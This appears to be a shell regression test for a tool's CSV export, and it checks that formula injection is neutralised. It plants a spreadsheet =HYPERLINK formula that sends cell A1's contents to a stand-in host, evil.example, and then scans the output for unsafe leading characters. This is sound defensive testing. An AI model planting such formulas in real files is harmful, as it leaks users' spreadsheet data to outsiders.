# what: a claim's quote in claims.csv is a spreadsheet formula (=HYPERLINK); claims --csv must neutralise it
# expect-rc: 0
# expect: all cells safe
cp -r "$PROJECT/data" d
"$PY" - <<'PY'
import csv
rows = list(csv.DictReader(open("d/claims.csv", newline="", encoding="utf-8")))
rows[0]["quote"] = '=HYPERLINK("http://evil.example/?"&A1,"up to 2.3x higher throughput")'
w = csv.DictWriter(open("d/claims.csv", "w", newline="", encoding="utf-8"), fieldnames=rows[0].keys())
w.writeheader(); w.writerows(rows)
PY
"$TR" claims --data-dir d --csv out.csv >/dev/null || exit 1
"$PY" - <<'PY'
import csv, re
bad = [c for r in csv.reader(open("out.csv", newline="", encoding="utf-8")) for c in r
       if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"[-+]?[0-9.]+(e[-+]?\d+)?", c)]
print("UNSAFE cells:", bad[:3]) if bad else print("all cells safe")
PY
